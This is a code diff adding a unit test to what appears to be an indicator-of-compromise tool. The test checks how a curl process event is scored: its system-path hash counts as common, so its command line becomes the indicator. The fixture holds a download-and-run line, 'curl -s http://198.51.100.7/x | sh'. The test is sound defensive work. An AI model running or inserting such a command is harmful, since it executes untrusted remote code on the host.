@@ -107,6 +107,25 @@ class IocDefaultsTest {
     }
 
     @Test
+    void aSystemProgramsHash_isCommonAsItsPathIs_soALolbinsCommandLineIsTicked() {
+        // fifth try-out: a LOLBin's hash was ticked (too few events to count as common), so its command line was not,
+        // and the IOC found every use of curl; a file kept from a system folder is told apart by its hash
+        String sha = "ab".repeat(32);
+        java.util.Map<String, String> curl = java.util.Map.of("type", "process", "operation", "start", "process_path", "/usr/bin/curl",
+                "hash_sha256", sha, "command_line", "curl -s http://198.51.100.7/x | sh");
+        Candidates.Candidate hash = Candidates.defaults(curl, Candidates.DEFAULT_PROCESS).getFirst();
+        assertEquals(IndicatorType.SHA256, hash.type());
+        assertTrue(hash.system(), "the hash of /usr/bin/curl is every endpoint's: " + hash);
+        assertEquals("the hash of a program in a system path", hash.systemLabel());
+        assertTrue(Candidates.defaults(curl, Candidates.DEFAULT_PROCESS).stream().allMatch(Candidates.Candidate::system),
+                "every image default is common, so the command line is ticked in their place");
+        assertFalse(Candidates.defaults(java.util.Map.of("type", "process", "process_path", "/tmp/.x/curl", "hash_sha256", sha),
+                Candidates.DEFAULT_PROCESS).getFirst().system(), "the same program elsewhere is not a system path's");
+        assertFalse(Candidates.defaults(java.util.Map.of("type", "file", "operation", Candidates.KEPT_FILE, "file_path", "/usr/bin/ls",
+                "hash_sha256", sha), Candidates.DEFAULT_PROCESS).getFirst().system(), "a kept file's own hash tells a trojaned ls apart");
+    }
+
+    @Test
     void eventItem_commonImagesCommandLineTicked_besideOtherDistinctiveValues() throws Exception {
         Scope scope = access.scope(CLI);
         String ps = powershell(scope);
